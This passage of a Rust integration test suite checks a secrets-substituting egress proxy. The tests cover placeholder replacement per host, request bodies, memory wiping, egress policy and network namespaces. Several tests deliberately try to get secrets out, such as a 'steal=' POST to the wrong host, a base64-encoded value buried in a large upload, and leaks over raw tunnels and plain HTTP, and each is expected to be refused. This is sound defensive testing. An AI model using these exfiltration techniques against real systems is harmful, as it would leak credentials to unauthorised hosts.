        let o = Command::new("curl")
            .args(["-sS", "--proxy", &format!("http://{addr}"), "--cacert"])
            .arg(env.path(ca))
            .args(["-H", &format!("Authorization: Bearer {placeholder}")])
            .arg(format!("https://api.stripe.test:{}/v1", up.port))
            .output()
            .unwrap();
        (o.status.code(), stdout(&o))
    };
    for (i, (_, addr, placeholder, ca)) in launches.iter().enumerate() {
        let (code, body) = curl_via(addr, ca, placeholder);
        assert_eq!(code, Some(0), "{body}");
        assert!(
            body.contains(&rev(&format!("Bearer {}", values[i]))),
            "{body}"
        );
        // Another launch's placeholder through this launch's listener is
        // not one of its own: it is not replaced by anything.
        let other = &launches[1 - i].2;
        let (_, body) = curl_via(addr, ca, other);
        assert!(
            !body.contains(values[1 - i]) && !body.contains(values[i]),
            "{body}"
        );
        // Each launch has its own CA: the other's does not verify it.
        let (code, _) = curl_via(addr, &launches[1 - i].3, placeholder);
        assert_ne!(code, Some(0));
    }
    let log = fs::read_to_string(&up.log).unwrap();
    assert_eq!(log.matches(values[0]).count(), 1, "{log}");
    assert_eq!(log.matches(values[1]).count(), 1, "{log}");
    // The first launcher ends: its launch is gone (its listener closed),
    // its records were on its stdout; the second launch still works.
    let (mut first, addr0, placeholder0, ca0) = launches.remove(0);
    // A value deep in a header (past what the allocator's free lists
    // overwrite), so that a freed buffer that was not wiped would show it.
    let o = Command::new("curl")
        .args([
            "-sS",
            "-o",
            "/dev/null",
            "--proxy",
            &format!("http://{addr0}"),
            "--cacert",
        ])
        .arg(env.path(&ca0))
        .args([
            "-H",
            &format!("X-Key: account=acme-production-0001;region=eu;key={placeholder0}"),
        ])
        .arg(format!("https://api.stripe.test:{}/v1", up.port))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    first.0.kill().unwrap();
    let mut records = String::new();
    std::io::Read::read_to_string(&mut first.0.stdout.take().unwrap(), &mut records).unwrap();
    first.0.wait().unwrap();
    let records: Vec<serde_json::Value> = records
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        records.iter().any(|r| r["outcome"] == "substituted"
            && r["secrets"] == serde_json::json!(["STRIPE_KEY"])
            && r["path"] == "/v1"),
        "{records:?}"
    );
    assert!(!format!("{records:?}").contains(values[0]));
    let ended = said
        .iter()
        .any(|l| l.contains("launch acme/one") && l.contains("ended"));
    assert!(ended);
    // The ended launch's value is nowhere in the host proxy's memory
    // (wiped: its part, its matchers, every buffer it passed through);
    // the live launch's is (the scan sees it).
    let found = needles_in_memory(
        host.0.id() as i32,
        &[values[0].as_bytes(), values[1].as_bytes()],
    );
    assert_eq!(found, [1], "values found in the host proxy's memory");
    let (code, _) = curl_via(&addr0, &ca0, &placeholder0);
    // 7: curl could not connect.
    assert_eq!(code, Some(7), "the ended launch's listener still answers");
    let (_, addr1, placeholder1, ca1) = &launches[0];
    let (code, body) = curl_via(addr1, ca1, placeholder1);
    assert_eq!(code, Some(0));
    assert!(
        body.contains(&rev(&format!("Bearer {}", values[1]))),
        "{body}"
    );
}

/// Request bodies: a secret that asks for it (`--in-body`) is put into
/// bodies to its hosts (HTTP/1.1 with a length or chunked, and HTTP/2),
/// with the length fixed; others' placeholders stay as they are toward
/// their hosts and are refused toward others; large bodies stream through
/// whole, and one carrying a value past the first part is cut before it.
#[test]
fn bodies_stream_checked_and_take_values_that_ask() {
    let env = StoreDir::new();
    env.create(&["acme/api"]);
    let up = upstream(&env, &["api.oauth.test", "api.stripe.test"]);
    let oauth = "oauth-client-secret-7d1e0f9b2c";
    let stripe = "sk_test_51Body0123456789abcdefXYZ";
    let app = "app-env-value-9c0d1e2f3a";
    let set = |name: &str, value: &str, extra: &[&str]| {
        let mut args = vec!["secrets", "set", "--repo", "acme/api", name];
        args.extend_from_slice(extra);
        ok(&env.run(&args, Some(value.as_bytes())));
    };
    let oauth_host = format!("api.oauth.test:{}", up.port);
    let stripe_host = format!("api.stripe.test:{}", up.port);
    set(
        "CLIENT_SECRET",
        oauth,
        &["--delivery", "proxy", "--host", &oauth_host, "--in-body"],
    );
    set(
        "STRIPE_KEY",
        stripe,
        &["--delivery", "proxy", "--host", &stripe_host],
    );
    set("APP", app, &[]);
    let listed = stdout(ok(
        &env.run(&["secrets", "list", "--repo", "acme/api"], None)
    ));
    assert!(listed.contains("(bodies too)"), "{listed}");
    seal_parts(&env, "acme/api", "");
    let (_proxy, addr) = proxy(&env, &up, &["api.oauth.test", "api.stripe.test"]);
    let placeholder = |name: &str| agent_sees(&env, "", name);
    let (p_oauth, p_stripe) = (placeholder("CLIENT_SECRET"), placeholder("STRIPE_KEY"));
    let post = |host: &str, extra: &[&str], data: &str| {
        let o = through(&env, &addr)
            .args(["-w", "\n%{http_code}"])
            .args(extra)
            .args(["--data-binary", data])
            .arg(format!("https://{host}:{}/token", up.port))
            .output()
            .unwrap();
        stdout(&o)
    };
    let form = format!("grant_type=client_credentials&client_secret={p_oauth}&n=1");
    for extra in [
        &[][..],
        &["-H", "Transfer-Encoding: chunked"][..],
        &["--http2"][..],
    ] {
        let out = post("api.oauth.test", extra, &form);
        assert!(out.ends_with("200"), "{extra:?}: {out}");
        // The upstream read exactly the new length: the body is whole.
        assert!(
            out.contains(&format!("client_secret={oauth}&n=1\n--")),
            "{extra:?}: {out}"
        );
    }
    // A secret that does not ask keeps its placeholder in a body to its
    // host; toward another host any placeholder is refused.
    let out = post("api.stripe.test", &[], &format!("key={p_stripe}"));
    assert!(
        out.ends_with("200") && out.contains(&p_stripe) && !out.contains(stripe),
        "{out}"
    );
    let before = fs::read_to_string(&up.log).unwrap();
    let out = post("api.stripe.test", &[], &format!("steal={p_oauth}"));
    assert!(
        out.ends_with("403") && out.contains("CLIENT_SECRET"),
        "{out}"
    );
    assert_eq!(
        fs::read_to_string(&up.log).unwrap(),
        before,
        "nothing was sent"
    );

    // 3 MiB without a secret: through whole, streamed.
    let big: String = (0..3 << 20)
        .map(|i| (b'a' + (i % 26) as u8) as char)
        .collect();
    fs::write(env.path("big"), &big).unwrap();
    let o = through(&env, &addr)
        .args([
            "-o",
            "/dev/null",
            "-w",
            "%{http_code} %{size_download}",
            "--data-binary",
            "@big",
        ])
        .arg(format!("https://api.stripe.test:{}/upload", up.port))
        .current_dir(env.dir.path())
        .output()
        .unwrap();
    let (code, size) = stdout(&o)
        .split_once(' ')
        .map(|(a, b)| (a.to_owned(), b.to_owned()))
        .unwrap();
    assert_eq!(code, "200", "{}", stderr(&o));
    assert!(
        size.parse::<usize>().unwrap() > big.len(),
        "the upstream echoed it whole"
    );
    // ... and with the env value, base64-encoded, 2 MiB in: cut before it.
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(app);
    let mut leaky = big.clone();
    leaky.replace_range(2 << 20..(2 << 20) + b64.len(), &b64);
    fs::write(env.path("leaky"), &leaky).unwrap();
    let o = through(&env, &addr)
        .args(["-w", "\n%{http_code}", "--data-binary", "@leaky"])
        .arg(format!("https://api.stripe.test:{}/upload", up.port))
        .current_dir(env.dir.path())
        .output()
        .unwrap();
    let out = stdout(&o);
    assert!(
        out.ends_with("403") && out.contains("APP") && out.contains("cut before it"),
        "{out}"
    );
    let log = fs::read_to_string(&up.log).unwrap();
    assert!(
        !log.contains(app) && !log.contains(&b64),
        "the value never reached the upstream"
    );
}

/// Tunnels that are not TLS: plain HTTP (in a tunnel or as an `http://`
/// URL) and byte streams (a database, SSH) go where the egress policy
/// allows, never with a placeholder, and a stream carrying a value is cut
/// before it reaches the upstream.
#[test]
fn tunnels_that_are_not_tls_follow_the_egress_policy() {
    let env = StoreDir::new();
    env.create(&["acme/api"]);
    let up = upstream(&env, &["api.stripe.test"]);
    let app = "app-env-value-51c0ffee77";
    ok(&env.run(
        &["secrets", "set", "--repo", "acme/api", "APP"],
        Some(app.as_bytes()),
    ));
    set_proxy_secret(
        &env,
        "acme/api",
        &format!("api.stripe.test:{}", up.port),
        b"sk_test_raw0123456789",
    );
    // A byte-stream upstream (echoes lines, logs what it got) and a plain
    // HTTP one.
    let echo = r#"
import socket, sys, threading
log = open(sys.argv[1], "ab", buffering=0)
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
print(s.getsockname()[1], flush=True)
def serve(c):
    while True:
        d = c.recv(4096)
        if not d:
            break
        log.write(d)
        c.sendall(d)
    c.close()
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"#;
    let web = r#"
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        b = ("plain:" + self.path).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;
    let start = |script: &str, arg: &str| python_server(&env, script, arg);
    let echo_log = env.path("echo.log");
    let (_echo, e) = start(echo, echo_log.to_str().unwrap());
    let (_web, h) = start(web, "");
    ok(&env.run(
        &[
            "repos",
            "egress",
            "acme/api",
            "--default",
            "deny",
            "--allow",
            &format!("raw.test:{e}"),
            "--allow",
            &format!("plain.test:{h}"),
        ],
        None,
    ));
    seal_parts(&env, "acme/api", "");
    let resolves: Vec<String> = [
        ("raw.test", e),
        ("blocked.test", e),
        ("plain.test", h),
        ("closed.test", h),
    ]
    .iter()
    .map(|(n, p)| format!("{n}:{p}:127.0.0.1"))
    .collect();
    let mut args: Vec<String> = [
        "proxy",
        "--bundle",
        "p",
        "--key-file",
        "pk",
        "--listen",
        "127.0.0.1:0",
    ]
    .map(String::from)
    .to_vec();
    for r in &resolves {
        args.extend(["--proxy-resolve".into(), r.clone()]);
    }
    let (_proxy, addr, _) = start_until(&env, &args, "sealctl proxy: listening on ");
    let addr = addr.split_whitespace().next().unwrap().to_owned();
    let client = r#"
import socket, sys
ph, pp = sys.argv[1].rsplit(":", 1)
def tunnel(host, port, payload):
    s = socket.create_connection((ph, int(pp)))
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    s.sendall(payload)
    s.settimeout(10)
    data = b""
    while not data.endswith(b"\n"):
        chunk = s.recv(1024)
        if not chunk:
            break
        data += chunk
    return data
e = sys.argv[2]
print(repr(tunnel("raw.test", e, b"PING\n")))
print(repr(tunnel("blocked.test", e, b"PING\n")))
print(repr(tunnel("raw.test", e, b"x" + sys.argv[3].encode() + b"\n")))
"#;
    let o = Command::new("python3")
        .args(["-c", client, &addr, &e.to_string(), app])
        .output()
        .unwrap();
    assert_eq!(stdout(&o), "b'PING\\n'\nb''\nb''\n", "{}", stderr(&o));
    let got = fs::read_to_string(&echo_log).unwrap();
    assert_eq!(
        got, "PING\n",
        "only the allowed stream without a value arrived"
    );
    // Plain HTTP: where the policy allows, without a secret.
    let plain = |url: &str, extra: &[&str]| {
        let o = Command::new("curl")
            .args([
                "-sS",
                "-w",
                "\n%{http_code}",
                "--proxy",
                &format!("http://{addr}"),
            ])
            .args(extra)
            .arg(url)
            .output()
            .unwrap();
        stdout(&o)
    };
    assert_eq!(
        plain(&format!("http://plain.test:{h}/a"), &[]),
        "plain:/a\n200"
    );
    assert_eq!(
        plain(&format!("http://plain.test:{h}/b"), &["--proxytunnel"]),
        "plain:/b\n200"
    );
    let out = plain(&format!("http://closed.test:{h}/"), &[]);
    assert!(
        out.ends_with("403") && out.contains("egress policy"),
        "{out}"
    );
    let out = plain(
        &format!("http://plain.test:{h}/"),
        &["-H", &format!("X-App: {app}")],
    );
    assert!(out.ends_with("403") && out.contains("APP"), "{out}");
    let placeholder = agent_sees(&env, "", "STRIPE_KEY");
    let out = plain(
        &format!("http://plain.test:{h}/"),
        &["-H", &format!("Authorization: Bearer {placeholder}")],
    );
    assert!(out.ends_with("403") && out.contains("plain HTTP"), "{out}");
}

/// `--netns PATH`: the launch's listener is opened inside a network
/// namespace the orchestrator made (as `ip netns add` does, or a runtime's
/// container): a process in it reaches the proxy at 127.0.0.1:3128 and
/// nothing else.
#[test]
fn a_launch_listens_inside_a_named_network_namespace() {
    let env = StoreDir::new();
    env.create(&["acme/api"]);
    let up = upstream(&env, &["api.stripe.test"]);
    let value = "sk_test_51Netns0123456789abcdef";
    set_proxy_secret(
        &env,
        "acme/api",
        &format!("api.stripe.test:{}", up.port),
        value.as_bytes(),
    );
    seal_parts(&env, "acme/api", "");
    let placeholder = agent_sees(&env, "", "STRIPE_KEY");
    let (_host, control, _) = host_proxy(&env, &up, &["api.stripe.test"]);
    // The namespace, held by a process in it.
    let mut holder = ProxyProc(
        Command::new("unshare")
            .args(["--net", "sh", "-c", "echo up; exec sleep 300"])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut line = String::new();
    BufReader::new(holder.0.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let ns = format!("/proc/{}/ns/net", holder.0.id());
    let (_launch, addr) = attach_on(&env, &control, ("p", "pk", "ca.pem"), &["--netns", &ns]);
    assert_eq!(addr, "127.0.0.1:3128");
    let inside = |args: &[&str]| {
        let o = Command::new("nsenter")
            .arg(format!("--net={ns}"))
            .arg("curl")
            .args(["-sS", "--max-time", "10"])
            .args(args)
            .output()
            .unwrap();
        (o.status.code(), stdout(&o))
    };
    let url = format!("https://api.stripe.test:{}/v1", up.port);
    let ca = env.path("ca.pem");
    let auth = format!("Authorization: Bearer {placeholder}");
    let (code, body) = inside(&[
        "--proxy",
        "http://127.0.0.1:3128",
        "--cacert",
        ca.to_str().unwrap(),
        "-H",
        &auth,
        &url,
    ]);
    assert_eq!(code, Some(0), "{body}");
    assert!(body.contains(&rev(&format!("Bearer {value}"))), "{body}");
    // The upstream itself is not reachable from inside: its loopback is
    // another one.
    let direct = format!("https://127.0.0.1:{}/", up.port);
    let (code, _) = inside(&["--noproxy", "*", "-k", &direct]);
    assert_eq!(code, Some(7), "the upstream answered inside the namespace");
}
